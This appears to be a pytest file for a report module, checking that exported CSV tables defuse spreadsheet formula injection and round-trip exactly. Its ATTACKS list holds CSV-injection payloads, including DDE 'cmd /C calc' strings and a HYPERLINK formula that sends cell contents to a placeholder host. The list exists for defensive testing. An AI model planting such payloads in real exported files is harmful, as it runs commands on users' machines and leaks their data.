"""Tables as files: read back whole, and harmless in a spreadsheet. All texts are invented."""

import csv

import pandas as pd
import pyarrow as pa
import pyarrow.csv
import pytest

from analysis import schemas
from analysis.report import tables
from tests.report import made


@pytest.fixture
def written(tmp_path):
    tables.write(made.Study(), tmp_path)
    return tmp_path


def test_every_table_is_written_in_both_forms(written):
    names = {p.name for p in written.iterdir()}
    assert names == {f"{n}.{s}" for n in schemas.TABLES for s in ("parquet", "csv")}


def test_copies_set_aside_are_written_where_rows_of_events_find_them(tmp_path):
    study = made.once()
    tables.write(study, tmp_path)
    aside = {name: pd.read_parquet(tmp_path / "set_aside" / f"{name}.parquet")
             for name in tables.POINTED_TO}  # fmt: skip
    assert aside["articles"]["article_id"].tolist() == ["b" * 16]
    assert len(aside["sentences"]) == 2
    assert pd.read_parquet(tmp_path / "articles.parquet")["article_id"].tolist() == ["a" * 16]
    assert "'=cmd" in (tmp_path / "set_aside" / "articles.csv").read_text()


def test_parquet_is_read_back_as_it_was(written):
    for name, table in made.tables().items():
        back = pd.read_parquet(written / f"{name}.parquet")
        pd.testing.assert_frame_equal(schemas.check(back, name), table, check_dtype=False)


def test_a_cell_that_a_spreadsheet_would_run_is_text_in_csv_and_as_it_was_in_parquet(written):
    with (written / "articles.csv").open(encoding="utf-8", newline="") as lines:
        titles = [row["title"] for row in csv.DictReader(lines)]
    assert titles == ["Mayor opens bridge", "'=cmd|' /C calc'!A0"]
    kept = pd.read_parquet(written / "articles.parquet")["title"].tolist()
    assert kept[1] == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("first", "=+-@\t\r\n＝")
@pytest.mark.parametrize("dictionary", [False, True])
def test_all_that_begins_a_formula_is_quoted(first, dictionary):
    column = pa.array([f"{first}1+1", "one", None])
    column = column.dictionary_encode() if dictionary else column
    quoted = tables.harmless(pa.table({"text": column, "n": [-1, 2, 3]})).to_pydict()
    assert quoted == {"text": [f"'{first}1+1", "one", None], "n": [-1, 2, 3]}


def test_line_breaks_and_quotation_marks_stay_inside_their_cell(tmp_path):
    study = made.Study()
    study.made["articles"] = study.made["articles"].assign(text=['He said "no",\n\nand left'] * 2)
    tables.write(study, tmp_path)
    back = pd.read_csv(tmp_path / "articles.csv")
    assert back["text"].tolist() == ['He said "no",\n\nand left'] * 2


# As they are found in reports of such attacks, and in the lists that testers use.
ATTACKS = (
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A1", "-2+3+cmd|'/C'!A",
    '=HYPERLINK("http://x.example/?"&A1,"open")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(1)", ' =1+1', '"=1+1', "'=1+1", "''+1", "' =1",
    "one;=1+1", "one\n=cmd|' /C calc'!A0", 'one;"=1+1"', "one; '-1", "one\t@SUM(1)",
)  # fmt: skip
PLAIN = (
    "",
    "'tis so",
    "a = b",
    "x;y",
    "- no: a dash is quoted, too",
    "He said 'no'",
    "one\n\ntwo",
    "'",
    "''",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_begins_as_a_formula_wherever_a_spreadsheet_lets_cells_begin(text, tmp_path):
    file = tmp_path / "a.csv"
    pyarrow.csv.write_csv(tables.harmless(pa.table({"n": ["x"], "text": [text]})), file)
    raw = file.read_text(encoding="utf-8")
    for separator in ",;\t":
        for row in csv.reader(raw.splitlines(keepends=True), delimiter=separator):
            assert not [c for c in row if c.lstrip(' "').startswith(tuple("=+-@＝＠\t\r\n"))]
    for line in raw.splitlines():
        for cell in line.replace("\t", ";").split(";"):
            assert not cell.lstrip(' "').startswith(tuple("=+-@＝＠"))


@pytest.mark.parametrize("text", (*ATTACKS, *PLAIN, "é;=1", "''' -'=;'=", ";;=", "\n\n=\n'\n+"))
def test_a_program_has_each_cell_back_as_it_was(text):
    made_harmless = tables.harmless(pa.table({"text": [text]})).to_pydict()["text"][0]
    assert tables.plain(made_harmless) == text


def test_names_of_columns_are_harmless_too():
    assert tables.harmless(pa.table({"=1+1": ["one"]})).column_names == ["'=1+1"]
    for table in schemas.TABLES.values():
        names = [column.name for column in table.columns]
        assert all(name.isidentifier() for name in names)
        # no column holds lists, which a CSV file could not
        assert not [c for c in table.columns if c.dtype == "object"]
